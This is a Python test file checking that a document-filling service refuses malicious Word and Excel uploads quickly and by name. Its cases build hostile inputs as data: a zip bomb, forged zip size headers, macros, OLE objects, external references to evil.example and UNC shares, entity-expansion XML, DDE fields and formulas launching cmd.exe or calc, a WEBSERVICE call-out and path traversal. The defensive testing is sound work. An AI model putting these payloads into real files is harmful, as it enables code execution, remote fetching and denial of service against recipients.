"""Files that could harm whoever opens them, or the server: refused by name, quickly, with little memory."""

from __future__ import annotations

import io
import resource
import time
import zipfile
from collections.abc import Callable, Iterator

import pytest
from flask import Flask
from flask_babel import Babel

from app.core.documents import filling
from app.kernel.errors import Invalid
from tests.core.documents.papers import VALUES, changed, part, sheet, word

PACKAGE, OFFICE = "http://schemas.openxmlformats.org/package/2006/", "http://schemas.openxmlformats.org/officeDocument/2006/"
ENTITIES = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><a>&b;</a>'


@pytest.fixture(autouse=True)
def sentences() -> Iterator[None]:
    """What is said is said in English; nothing else of an application is needed."""
    bare = Flask("bare")
    Babel(bare)
    with bare.test_request_context():
        yield


def plain_sheet() -> bytes:
    return sheet(lambda page, _book: page.write_string(0, 0, "{{ count }}"))


def leading(kind: str, target: str, mode: str = "External", owner: str = "footer1") -> bytes:
    """A Word file of which a part refers to something."""
    said = (f'<Relationships xmlns="{PACKAGE}relationships"><Relationship Id="rId9" Type="{OFFICE}relationships/{kind}" '
            f'Target="{target}" TargetMode="{mode}"/></Relationships>')
    return changed(word("x"), **{f"word___rels__{owner}.xml.rels": said.encode()})


def packed(parts: dict[str, bytes]) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return target.getvalue()


def bomb() -> bytes:
    return changed(word("x"), **{"word__media__big.xml": b"<a>" + b" " * 60_000_000 + b"</a>"})


def lying() -> bytes:
    """A part that says that it is small, and is not."""
    content = bytearray(changed(word("x"), **{"word__extra.xml": b"<a>" + b" " * 30_000_000 + b"</a>"}))
    for sign, at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = 0
        while (start := content.find(sign, start)) >= 0:
            if int.from_bytes(content[start + at:start + at + 4], "little") > 1_000_000:
                content[start + at:start + at + 4] = (1_000).to_bytes(4, "little")
            start += 4
    return bytes(content)


def macros() -> bytes:
    content = word("x")
    types = part(content, "[Content_Types].xml").replace(b"wordprocessingml.document.main+xml", b"x")
    return changed(content, **{"[Content_Types].xml": types.replace(
        b"application/vnd.openxmlformats-officedocument.x", b"application/vnd.ms-word.document.macroEnabled.main+xml")})


def field(words: str) -> bytes:
    return word(raw=f"<w:p><w:r><w:instrText>{words[:4]}</w:instrText></w:r><w:r><w:instrText>{words[4:]}</w:instrText></w:r></w:p>")


CASES: list[tuple[str, str, Callable[[], bytes], str]] = [
    ("bomb", "docx", bomb, "it is refused unread"),
    ("lies about its size", "docx", lying, "damaged"),
    ("many parts", "docx", lambda: packed({f"a{n}": b"" for n in range(2_000)}), "2000 parts"),
    ("no zip", "docx", lambda: b"PK\x03\x04" + b"x" * 900, "damaged"),
    ("cut off", "docx", lambda: word("x")[:-300], "damaged"),
    ("another kind", "xlsx", lambda: word("x"), "no XLSX file"),
    ("macros by type", "docx", macros, "macros"),
    ("macros by part", "docx", lambda: changed(word("x"), **{"word__vbaProject.bin": b"x"}), "macros"),
    ("macros of excel", "xlsx", lambda: changed(plain_sheet(), **{"xl__vbaProject.bin": b"x"}), "macros"),
    ("embedded object", "docx", lambda: changed(word("x"), **{"word__embeddings__oleObject1.bin": b"x"}), "embedded object"),
    ("control", "docx", lambda: changed(word("x"), **{"word__activeX__activeX1.xml": b"<a/>"}), "embedded object"),
    ("embedded by relationship", "docx",
     lambda: leading("oleObject", "x.bin", "Internal", "footer1"), "embedded"),
    ("other document", "docx",
     lambda: leading("aFChunk", "x.htm", "Internal", "footer1"), "embedded"),
    ("picture from outside", "docx",
     lambda: leading("image", "http://evil.example/x.png", "External", "footer1"),
     "fetches something from outside (“http://evil.example/x.png”)"),
    ("template from outside", "docx",
     lambda: leading("attachedTemplate", "\\\\evil\\x.dotm", "External", "settings"),
     "from outside"),
    ("link that runs", "docx",
     lambda: leading("hyperlink", "file:///etc/passwd", "External", "footer1"),
     "from outside"),
    ("entities", "docx", lambda: changed(word("x"), **{"word__document.xml": ENTITIES}), "declares entities"),
    ("entities elsewhere", "docx", lambda: changed(word("x"), **{"customXml__item1.xml": ENTITIES}), "declares entities"),
    ("entities in another encoding", "docx",
     lambda: changed(word("x"), **{"customXml__item1.xml": ENTITIES.decode().replace('"1.0"', '"1.0" encoding="UTF-16"').encode("utf-16")}),
     "declares entities"),
    ("not well-formed", "docx", lambda: changed(word("x"), **{"word__document.xml": b"<a><b></a>"}), "cannot be read"),
    ("field that starts something", "docx", lambda: field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"), "fetches or starts something"),
    ("field that reads a file", "docx", lambda: field("INCLUDETEXT \\\\evil\\share\\x.docx"), "fetches or starts something"),
    ("linked workbook", "xlsx", lambda: changed(plain_sheet(), **{"xl__externalLinks__externalLink1.xml": b"<a/>"}), "embedded object"),
    ("connection", "xlsx", lambda: changed(plain_sheet(), **{"xl__connections.xml": b"<a/>"}), "embedded object"),
    ("formula that calls out", "xlsx",
     lambda: sheet(lambda page, _book: page.write_formula(0, 0, '=WEBSERVICE("http://evil.example")')), "fetches or starts something"),
    ("formula that starts something", "xlsx",
     lambda: sheet(lambda page, _book: page.write_formula(0, 0, "=cmd|'/C calc'!A0")), "fetches or starts something"),
    ("names that lead outside", "docx", lambda: changed(word("x"), **{"..__..__etc__passwd": b"x"}), "lead outside"),
    ("the same name twice", "docx", lambda: changed(word("x"), **{"WORD__document.xml": b"<a/>"}), "same name"),
]


@pytest.mark.parametrize(("kind", "make", "said"), [case[1:] for case in CASES], ids=[case[0] for case in CASES])
def test_it_is_refused_by_name_within_two_seconds(kind: str, make: Callable[[], bytes], said: str) -> None:
    content = make()
    began, before = time.monotonic(), resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with pytest.raises(Invalid) as caught:
        filling.check(io.BytesIO(content), kind, VALUES)
    assert said in str(caught.value.errors)
    assert time.monotonic() - began < 2
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 100 * 1024


def test_a_link_to_a_page_is_no_harm() -> None:
    filling.check(io.BytesIO(leading("hyperlink", "https://acme.example/")), "docx", VALUES)
